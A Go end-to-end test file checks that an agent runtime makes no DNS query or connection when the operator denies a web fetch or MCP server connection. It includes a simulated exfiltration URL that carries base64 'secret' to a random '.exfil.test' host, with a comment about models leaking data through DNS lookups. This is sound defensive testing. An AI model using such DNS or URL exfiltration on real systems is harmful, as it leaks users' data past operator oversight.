package e2e

import (
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/demiurge/demiurge/internal/testutil"
)

// uniqueName is a host name no resolver has seen: the kind a model would
// build to carry data out in a DNS query.
func uniqueName(t *testing.T, label string) string {
	t.Helper()
	b := make([]byte, 8)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return label + "-" + hex.EncodeToString(b) + ".exfil.test"
}

// dnsFixture is a runtime whose Host resolves every name through a
// recording name server (the operator's DEMIURGE_DNS_SERVER) and admits
// loopback, plus a loopback HTTP server counting its requests, reachable
// as name: the server answers name with 127.0.0.1.
type dnsFixture struct {
	e          *env
	dns        *testutil.DNSServer
	name, port string
	hits       atomic.Int32
}

func newDNSFixture(t *testing.T, label, body string) *dnsFixture {
	t.Helper()
	f := &dnsFixture{name: uniqueName(t, label)}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		f.hits.Add(1)
		w.Header().Set("Content-Type", "text/plain")
		io.WriteString(w, body)
	}))
	t.Cleanup(srv.Close)
	u, _ := url.Parse(srv.URL)
	f.port = u.Port()
	f.dns = testutil.StartDNSServer(t, map[string]string{f.name: "127.0.0.1"})
	f.e = newEnv(t)
	f.e.extra = []string{"DEMIURGE_DNS_SERVER=" + f.dns.Addr, "DEMIURGE_URL_ALLOW_LOOPBACK=1"}
	return f
}

// TestDeniedFetchMakesNoDNSQuery: a web_extract call the operator denies
// sends nothing, not even the DNS query of its host name; the same call
// approved is resolved (through the operator's name server) when it
// connects, and fetched.
func TestDeniedFetchMakesNoDNSQuery(t *testing.T) {
	f := newDNSFixture(t, "leak", "fetched through the name")
	call := fmt.Sprintf(`[{"name":"web_extract","arguments":{"url":%q}}]`, "http://"+f.name+":"+f.port+"/notes?body=c2VjcmV0")

	out := f.e.scripted("deny", call)
	if c := out.ToolCalls[0]; c.Status != "denied" || c.ExecutionStarted || !strings.HasPrefix(c.Content, "approval denied: Extract URL from http://"+f.name+":"+f.port) {
		t.Fatalf("under deny: %+v", c)
	}
	if q := f.dns.Queries(); len(q) != 0 || f.hits.Load() != 0 {
		t.Fatalf("under deny: DNS queries %v, server hits %d; want none", q, f.hits.Load())
	}

	out = f.e.scripted("all", call)
	if c := out.ToolCalls[0]; c.Status != "succeeded" || c.Content != "fetched through the name" {
		t.Fatalf("under all: %+v", c)
	}
	if !f.dns.Asked(f.name) || f.hits.Load() != 1 {
		t.Fatalf("under all: DNS queries %v, server hits %d; want the name asked and one request", f.dns.Queries(), f.hits.Load())
	}
}

// TestDeniedMCPConnectMakesNoDNSQuery: a streamable HTTP MCP server named
// by a host name is not looked up before its connect approval; approved,
// the Host resolves it through the same operator name server as
// web_extract.
func TestDeniedMCPConnectMakesNoDNSQuery(t *testing.T) {
	f := newDNSFixture(t, "mcp", "not an MCP server")
	f.e.declareHTTPServer(t, "remote", "http://"+f.name+":"+f.port+"/mcp")

	f.e.scripted("deny", `[]`)
	if q := f.dns.Queries(); len(q) != 0 || f.hits.Load() != 0 {
		t.Fatalf("under deny: DNS queries %v, server hits %d; want none", q, f.hits.Load())
	}
	f.e.scripted("all", `[]`)
	if !f.dns.Asked(f.name) || f.hits.Load() == 0 {
		t.Fatalf("under all: DNS queries %v, server hits %d; want the name asked and the server reached", f.dns.Queries(), f.hits.Load())
	}
}

// declareHTTPServer declares a streamable HTTP MCP server for the
// assistant core and grants its connect capability, confirmed by the
// operator (granting is never self-service).
func (e *env) declareHTTPServer(t *testing.T, id, endpoint string) {
	t.Helper()
	if r := e.run("", "init"); r.code != 0 {
		t.Fatalf("init: %s", r.stderr)
	}
	if err := os.MkdirAll(filepath.Join(e.home, "agents", "assistant", "agent", "mcp"), 0o700); err != nil {
		t.Fatal(err)
	}
	e.writeCoreFile("agent/mcp/"+id+".yaml", "transport: streamable_http\nurl: "+endpoint+"\nconnect_timeout_seconds: 5\n")
	e.grantDefaults(t, "mcp.connect:"+id)
}
